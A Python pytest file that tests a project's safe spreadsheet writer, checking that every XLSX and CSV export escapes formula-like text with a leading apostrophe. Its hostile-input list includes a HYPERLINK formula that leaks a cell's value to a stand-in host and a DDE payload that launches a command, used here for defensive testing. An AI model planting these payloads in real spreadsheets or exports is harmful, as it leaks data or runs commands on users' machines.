"""The one safe writer for XLSX and CSV (formula injection): every text that could start a formula gets a
leading apostrophe, types are kept, our own imports read it back exactly; and a walk over every export the
product writes, each fed hostile text, finds no live formula anywhere."""

import csv
import datetime
import io
import pathlib
import re
from types import SimpleNamespace

import openpyxl
import pytest

from wenming.core.spreadsheets import (
    TRIGGERS,
    SafeWorkbook,
    csv_bytes,
    needs_escape,
    neutralise,
    unescape,
    workbook_bytes,
)

HOSTILE = [
    '=HYPERLINK("http://x/?"&B2,"查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "'=1+1",
]
EVIL = HOSTILE[0]


# --- the rule ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_gets_an_apostrophe_and_reads_back_exactly(text):
    safe = neutralise(text)
    assert safe == "'" + text
    assert unescape(safe) == text


@pytest.mark.parametrize("value", ["普通文字", "", "a=b", "12号", " =1", 3, -2.5, 0, None, True,
                                   datetime.date(2026, 12, 7), datetime.datetime(2026, 12, 7, 8, 30)])  # fmt: skip
def test_everything_else_is_left_alone(value):
    assert neutralise(value) == value
    assert unescape(value) == value


def test_unescape_never_changes_a_text_that_was_not_escaped():
    for text in ["'普通", "''", "'a=b", "普通"]:
        assert not needs_escape(text)
        assert unescape(neutralise(text)) == text


def cells(data: bytes):
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            yield from row


def assert_no_live_formula(data: bytes) -> list:
    """Every cell of an XLSX: no formula, no text a spreadsheet could read as one; returns the values."""
    values = []
    for cell in cells(data):
        assert cell.data_type != "f", (cell.coordinate, cell.value)
        if isinstance(cell.value, str) and cell.value:
            assert cell.value[0] not in TRIGGERS, (cell.coordinate, cell.value)
        values.append(cell.value)
    return values


def test_safe_workbook_neutralises_append_cell_and_item_writes_and_keeps_types():
    workbook = SafeWorkbook()
    sheet = workbook.active
    sheet.append([EVIL, 42, -1.5, datetime.date(2026, 12, 7)])
    sheet.cell(row=2, column=1, value="@cmd")
    sheet["B2"] = "-10"
    sheet["C2"] = "=SUM(B1:C1)"
    workbook.save(out := io.BytesIO())
    loaded = openpyxl.load_workbook(io.BytesIO(out.getvalue())).active
    assert [c.value for c in loaded[1]] == ["'" + EVIL, 42, -1.5, datetime.datetime(2026, 12, 7)]
    assert (loaded["A2"].value, loaded["B2"].value) == ("'@cmd", "'-10")
    assert loaded["C2"].data_type == "s" and loaded["C2"].value == "'=SUM(B1:C1)"


def test_write_only_workbooks_neutralise_plain_values_and_styled_cells():
    from openpyxl.cell import WriteOnlyCell

    workbook = SafeWorkbook(write_only=True)
    sheet = workbook.create_sheet("s")
    sheet.append([WriteOnlyCell(sheet, value="=1+1"), "+2", 7])
    assert assert_no_live_formula(workbook_bytes(workbook)) == ["'=1+1", "'+2", 7]


def test_workbook_bytes_refuses_an_unsafe_workbook():
    with pytest.raises(TypeError):
        workbook_bytes(openpyxl.Workbook())


def test_csv_fields_are_neutralised_numbers_untouched():
    data = csv_bytes([["a", "b", "c"], [EVIL, 3, "-1"]])
    assert data.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows == [["a", "b", "c"], ["'" + EVIL, "3", "'-1"]]


def test_no_export_bypasses_the_safe_writer():
    """Every XLSX/CSV written under src/ goes through wenming.core.spreadsheets (the benchmark's CSV floor in
    bulletins/bench.py is a timing baseline that never leaves the process)."""
    root = pathlib.Path(__file__).resolve().parents[2] / "src" / "wenming"
    offenders = []
    for path in root.rglob("*.py"):
        if path.name == "spreadsheets.py" or path.match("bulletins/bench.py"):
            continue
        text = path.read_text(encoding="utf-8")
        if re.search(
            r"from openpyxl import Workbook|openpyxl\.Workbook\(|csv\.writer\(|csv\.DictWriter\(", text
        ):
            offenders.append(str(path.relative_to(root)))
    assert offenders == []


# --- every export, fed hostile text ---------------------------------------------------------------------------


@pytest.mark.django_db
def test_case_export(settings, tmp_path):
    from tests.cases.helpers import build_world, new_case
    from wenming.cases.exports import write_xlsx
    from wenming.cases.models import Case

    settings.MEDIA_ROOT = tmp_path
    w = build_world()
    new_case(w, description=EVIL, address="+86 湖里区", reporter_name="@某人", reporter_phone="13912345678")
    values = assert_no_live_formula(write_xlsx(Case.objects.all(), with_reporter=True))
    assert "'" + EVIL in values and "'+86 湖里区" in values and "'@某人" in values
    assert 0 in values  # counts (escalation level, reworks …) stay numbers


@pytest.mark.django_db
def test_report_exports_office_xlsx_and_public_csv(settings, tmp_path):
    from tests.participation.helpers import build_world, submit
    from wenming.participation import services
    from wenming.participation.exports import export_public_csv, export_reports_xlsx
    from wenming.participation.models import Report

    settings.MEDIA_ROOT = tmp_path
    w = build_world()
    report = submit(w, description=EVIL, reporter_name="-小王", address="@金尚路")
    services.accept_report(report, actor=w.office)
    values = assert_no_live_formula(export_reports_xlsx(Report.objects.all(), with_contact=True))
    assert "'" + EVIL in values and "'-小王" in values and "'@金尚路" in values
    rows = list(csv.reader(io.StringIO(export_public_csv(Report.objects.public()).decode("utf-8-sig"))))
    assert len(rows) == 2
    assert all(not field or field[0] not in TRIGGERS for field in rows[1])
    assert rows[1][3] == "'" + EVIL


@pytest.mark.django_db
def test_point_export_round_trips_through_the_point_import():
    from tests.factories import make_point
    from wenming.geo.exports import export_points_xlsx, point_template_xlsx
    from wenming.geo.models import Point
    from wenming.geo.tables import read_table

    make_point(name=EVIL, address="-3 号楼")
    data = export_points_xlsx(Point.objects.all())
    values = assert_no_live_formula(data)
    assert "'" + EVIL in values
    table = read_table(data, "points.xlsx")
    assert table.rows[0][1][1] == EVIL and table.rows[0][1][3] == "-3 号楼"  # unescaped on import
    assert_no_live_formula(point_template_xlsx())


def test_list_exports_of_inspections_keep_types():
    from wenming.inspections.exports import xlsx_response

    when = datetime.datetime(2026, 12, 7, 8, 30, tzinfo=datetime.UTC)
    response = xlsx_response("rounds", "轮次", ["名称", "得分", "时间"], [[EVIL, 87.5, when]])
    values = assert_no_live_formula(response.content)
    assert values[3:5] == ["'" + EVIL, 87.5] and isinstance(values[5], datetime.datetime)


def test_score_exports():
    from wenming.scoring.exports import pareto_xlsx, points_xlsx, ranking_xlsx

    row = SimpleNamespace(rank=1, label=EVIL, points=3, passed=2, pass_rate=0.6667, mean_score=88.1, score_rate=0.9,
                          tied=False)  # fmt: skip
    ranking = SimpleNamespace(rows=[row], round=SimpleNamespace(name="@第1轮"), is_live=True, snapshot=None,
                              dimension="street")  # fmt: skip
    assert "'" + EVIL in assert_no_live_formula(ranking_xlsx(ranking).content)
    point = SimpleNamespace(code="+A1", name=EVIL, point_type="-", street="", community="", unit="",
                            inspection_id=5, submitted_at=None, earned=1.0, possible=2.0, score=50.0, passed=False,
                            failing=["=bad"])  # fmt: skip
    values = assert_no_live_formula(points_xlsx(SimpleNamespace(pk=1), [point], "点位").content)
    assert "'+A1" in values and "'=bad" in values and 50.0 in values
    line = SimpleNamespace(label=EVIL, detail="@x", lost=1.0, share=0.5, cumulative_share=0.5, count=1, problems=1,
                           vital=True)  # fmt: skip
    view = SimpleNamespace(by_criterion=[line], by_category=[line], by_theme=[line])
    assert "'@x" in assert_no_live_formula(pareto_xlsx(view, "=label").content)


def test_bulletin_workbook():
    from wenming.bulletins.render.document import Outline, Section, Table
    from wenming.bulletins.render.excel import write_xlsx

    table = Table(key="t", caption="+表", header=["名称", "数"], rows=[[EVIL, "12"], ["-5", "-5"]], widths=[2, 1],
                  note="@注")  # fmt: skip
    outline = Outline(issuer="=机关", doc_number="", title="通报", recipients="各单位：", sections=[
        Section(heading="一", tables=[table])], closing=[], cc="", photos=[], fonts={}, generated_at="",
        period_label="", summary="-总体", figures=[("处置率", "95.5")])  # fmt: skip
    values = assert_no_live_formula(write_xlsx(outline))
    assert "'" + EVIL in values and "'=机关" in values and "'-总体" in values and 95.5 in values
    assert -5 in values  # a plain number in a table stays a number (negative too)


def test_appraisal_workbook():
    from wenming.bulletins.appraisal import export_xlsx

    run = SimpleNamespace(scheme_snapshot={"name": EVIL, "formula": "=1+1", "description": "@x"}, period_code="2026-11",
                          period_start="2026-11-01", period_end="2026-11-30",
                          computed_at=datetime.datetime(2026, 12, 1, tzinfo=datetime.UTC))  # fmt: skip
    result = SimpleNamespace(rank=1, label="-单位", base=90.0, bonus=1.0, deduction=0.0, score=91.0, adjustment=0,
                             final_score=91.0, error="", amount=-500.0, amount_basis="=扣罚", figures={}, contributions=[
                                 {"kind": "bonus", "note": "+note", "label": "x", "value": 1, "points": 1, "cap": 5,
                                  "amount": 1.0}])  # fmt: skip
    values = assert_no_live_formula(export_xlsx(run, [result]))
    assert "'" + EVIL in values and "'-单位" in values and "'=1+1" in values and 91.0 in values
    assert (
        -500.0 in values and "'=扣罚" in values
    )  # the reward amount stays a number, its basis is neutralised


@pytest.mark.django_db
def test_user_export(client):
    from tests.factories import make_user

    admin = make_user("admin", username="root-admin")
    make_user("office", username="evil-user", display_name=EVIL, phone="+8613912345678")
    client.force_login(admin)
    response = client.get("/accounts/users/export/")
    assert response.status_code == 200
    values = assert_no_live_formula(response.content)
    assert "'" + EVIL in values


@pytest.mark.django_db
def test_survey_exports(settings, tmp_path):
    from tests.surveys.factories import make_world, respond
    from wenming.surveys.exports import anonymised_xlsx
    from wenming.surveys.imports import import_template

    settings.MEDIA_ROOT = tmp_path
    world = make_world()
    respond(world, q6=EVIL)
    values = assert_no_live_formula(anonymised_xlsx(world.wave))
    assert "'" + EVIL in values
    assert_no_live_formula(import_template(world.wave))


@pytest.mark.django_db
def test_standard_exports_round_trip_hostile_text_exactly():
    from tests.standards.factories import import_small
    from wenming.standards.models import Criterion, StandardSet
    from wenming.standards.services import export_standard, import_standard

    standard_set = import_small()
    criterion = Criterion.objects.filter(standard_set=standard_set).order_by("pk").first()
    Criterion.objects.filter(pk=criterion.pk).update(text=EVIL, sampling_note="-3 处")
    first = export_standard(standard_set=standard_set, fmt="xlsx")
    assert "'" + EVIL in assert_no_live_formula(first)
    StandardSet.objects.filter(pk=standard_set.pk).update(code="OLD", is_active=False)
    again = import_standard(actor=None, file=first, fmt="xlsx")
    assert Criterion.objects.get(standard_set=again, code=criterion.code).text == EVIL
    assert export_standard(standard_set=again, fmt="xlsx") == first
